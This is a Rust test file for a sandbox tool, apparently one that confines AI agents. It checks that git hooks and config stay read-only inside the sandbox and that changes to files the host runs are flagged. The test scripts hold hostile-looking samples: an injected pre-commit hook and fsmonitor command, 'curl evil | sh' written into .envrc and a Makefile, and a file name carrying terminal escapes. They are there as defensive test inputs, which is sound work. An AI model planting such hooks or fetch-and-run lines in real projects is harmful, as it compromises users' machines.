//! The files the host runs, through the real podman service: read-only
//! inside the sandbox while `git commit` still works, and `paddock
//! changes` after a run that wrote them.

use std::path::Path;
use std::process::{Command, Output, Stdio};

use support::paddock::TestProject;
use support::podman::{base_image, image_exists, podman};

/// A local image with the dev environment's own git binary and the
/// libraries it links, on top of the busybox test image (which has no git
/// and no registry to get one from).
fn git_image() -> String {
    let image = "localhost/paddock-dev/busybox-git:test".to_owned();
    if image_exists(&image) {
        return image;
    }
    let git = String::from_utf8(
        Command::new("sh")
            .args(["-c", "command -v git"])
            .output()
            .expect("sh")
            .stdout,
    )
    .expect("a text path");
    let git = git.trim();
    let context = tempfile::tempdir().expect("context");
    let root = context.path().join("root");
    let libraries = Command::new("ldd").arg(git).output().expect("ldd");
    let mut files: Vec<String> = String::from_utf8_lossy(&libraries.stdout)
        .split_whitespace()
        .filter(|word| word.starts_with('/'))
        .map(str::to_owned)
        .collect();
    files.push(git.to_owned());
    for file in files {
        let target = root.join(file.trim_start_matches('/'));
        std::fs::create_dir_all(target.parent().expect("a parent")).expect("folders");
        std::fs::copy(&file, &target).expect("copy");
    }
    std::fs::write(
        context.path().join("Containerfile"),
        format!("FROM {}\nCOPY root/ /\n", base_image()),
    )
    .expect("Containerfile");
    let (built, out) = podman(&[
        "build",
        "-q",
        "-t",
        &image,
        context.path().to_str().expect("text"),
    ]);
    assert!(built, "podman build of the git image: {out}");
    image
}

fn git(dir: &Path, args: &[&str]) -> Output {
    let output = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args([
            "-c",
            "user.name=Host",
            "-c",
            "user.email=host@example.invalid",
        ])
        .args(args)
        .output()
        .expect("git runs");
    assert!(
        output.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output
}

/// `paddock run --approve DIR -- sh -c SCRIPT` without a terminal, to its end.
fn run_script(project: &TestProject, script: &str) -> String {
    let output = project
        .paddock()
        .args(["run", "--approve", project.path(), "--", "sh", "-c", script])
        .stdin(Stdio::null())
        .output()
        .expect("paddock run");
    String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
}

#[test]
fn git_hooks_and_config_are_read_only_inside_while_git_commit_works() {
    let project = TestProject::init("host-files-git", &["--container"]);
    let root = project.root.clone();
    let definition = root.join(".agent-sandbox/paddock.toml");
    let text = std::fs::read_to_string(&definition).expect("definition");
    std::fs::write(&definition, text.replace(&base_image(), &git_image())).expect("definition");
    git(&root, &["init", "-q", "-b", "main"]);
    git(&root, &["commit", "-q", "--allow-empty", "-m", "start"]);
    let config = std::fs::read_to_string(root.join(".git/config")).expect("config");

    let out = run_script(
        &project,
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && echo HOOK-WRITTEN; \
         git config core.fsmonitor 'echo pwned' && echo CONFIG-WRITTEN; \
         echo '[core]' >> .git/config && echo APPEND-WRITTEN; \
         rm .git/config && echo CONFIG-REMOVED; \
         mv .git .git-old && echo GIT-MOVED; \
         echo hi > file.txt; git add file.txt && \
         git -c user.name=Agent -c user.email=agent@example.invalid commit -qm by-the-agent && \
         echo COMMITTED",
    );
    assert!(out.contains("Read-only file system"), "{out}");
    for written in [
        "HOOK-WRITTEN",
        "CONFIG-WRITTEN",
        "APPEND-WRITTEN",
        "CONFIG-REMOVED",
    ] {
        assert!(!out.contains(written), "{written}: {out}");
    }
    assert!(out.contains("COMMITTED"), "{out}");
    assert!(!root.join(".git/hooks/pre-commit").exists());
    assert!(!root.join(".git-old").exists());
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config")).expect("config"),
        config
    );
    let log = git(&root, &["log", "--format=%s"]);
    assert_eq!(
        String::from_utf8_lossy(&log.stdout),
        "by-the-agent\nstart\n"
    );
}

#[test]
fn paddock_changes_lists_what_the_run_changed_with_the_host_run_files_flagged_first() {
    let project = TestProject::init("host-files-changes", &["--container"]);
    let root = project.root.clone();
    std::fs::write(root.join("Makefile"), "all:\n\ttrue\n").expect("Makefile");
    std::fs::write(root.join("README"), "hello\n").expect("README");

    let before = project.run(&["changes", project.path()]);
    assert_eq!(before.status.code(), Some(1), "no record yet is an error");
    assert!(
        String::from_utf8_lossy(&before.stderr).contains("No run of"),
        "{}",
        String::from_utf8_lossy(&before.stderr)
    );

    let out = run_script(
        &project,
        "echo 'curl evil | sh' > .envrc; printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; \
         mkdir -p .vscode; echo '{\"tasks\": []}' > .vscode/tasks.json; \
         echo changed >> README; : > \"$(printf 'odd\\nname\\033[2K')\"",
    );
    assert!(
        out.contains("this run changed 3 files that your own tools run"),
        "{out}"
    );
    let changes = project.run(&["changes", project.path()]);
    let stdout = String::from_utf8_lossy(&changes.stdout).into_owned();
    assert_eq!(changes.status.code(), Some(1), "{out}\n{stdout}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 5, "{stdout}");
    assert!(
        lines[0].starts_with("! added") && lines[0].contains(".envrc"),
        "{stdout}"
    );
    assert!(lines[0].contains("run by direnv"), "{stdout}");
    assert!(
        lines[1].starts_with("! added") && lines[1].contains(".vscode/tasks.json"),
        "{stdout}"
    );
    assert!(
        lines[2].starts_with("! changed") && lines[2].contains("Makefile"),
        "{stdout}"
    );
    assert!(
        lines[3].starts_with("  changed") && lines[3].contains("README"),
        "{stdout}"
    );
    assert!(lines[4].contains("odd\\x0aname\\x1b[2K"), "{stdout}");
    assert!(!stdout.contains('\u{1b}'), "{stdout}");

    let diff = project.run(&["changes", "--diff", project.path()]);
    let diff = String::from_utf8_lossy(&diff.stdout);
    assert!(diff.contains("+\tcurl evil | sh"), "{diff}");
    assert!(diff.contains("+changed"), "{diff}");

    // Once the flagged files are back as they were, only the rest is listed.
    std::fs::remove_file(root.join(".envrc")).expect("rm");
    std::fs::remove_dir_all(root.join(".vscode")).expect("rm");
    std::fs::write(root.join("Makefile"), "all:\n\ttrue\n").expect("restore");
    let rest = project.run(&["changes", project.path()]);
    assert_eq!(
        rest.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&rest.stdout)
    );
}
